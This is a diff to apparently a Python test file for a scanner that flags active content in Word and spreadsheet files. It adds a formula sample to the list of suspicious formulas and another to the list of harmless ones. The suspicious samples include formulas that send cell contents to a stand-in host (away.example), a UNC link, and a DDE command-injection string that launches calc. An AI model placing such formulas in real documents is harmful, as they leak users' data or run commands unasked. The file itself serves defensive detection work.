@@ -99,6 +99,7 @@ ACTING: dict[str, tuple[bytes, str]] = {
     ),
     "a field in a link": (with_fields(r'HYPERLINK "\\\\away.example\\a"'), "リンク"),
     "a formula that asks a host": (sheet('WEBSERVICE("https://away.example/?d="&A1)'), "数式"),
+    "a service that translates what was entered": (sheet('_xlfn.TRANSLATE(A1,"ja","en")'), "数式"),
     "a picture by formula": (sheet('_xlfn.IMAGE("https://away.example/a")'), "数式"),
     "a link with what was entered": (sheet('HYPERLINK("https://away.example/?d="&A1)'), "数式"),
     "another program": (sheet("cmd|'/c calc'!A0"), "数式"),
@@ -119,6 +120,7 @@ HARMLESS: dict[str, bytes] = {
     "the template on one's own drive, which Word notes down": related("attachedTemplate", "file:///C:\\様式.dotx"),
     "usual fields": with_fields("PAGE  \\* MERGEFORMAT", "NUMPAGES", "= SUM(ABOVE)", 'HYPERLINK "https://a.example"'),
     "usual formulas": sheet('IF(SUM(A2:A9)>0,"a|b",表1[[#This Row],[単価.税]])'),
+    "the name of the sheet": sheet('MID(CELL("filename",A1),FIND("]",CELL("filename",A1))+1,31)'),
     "a link by formula": sheet('HYPERLINK("https://www.pref.example.lg.jp/","県")'),
 }
 
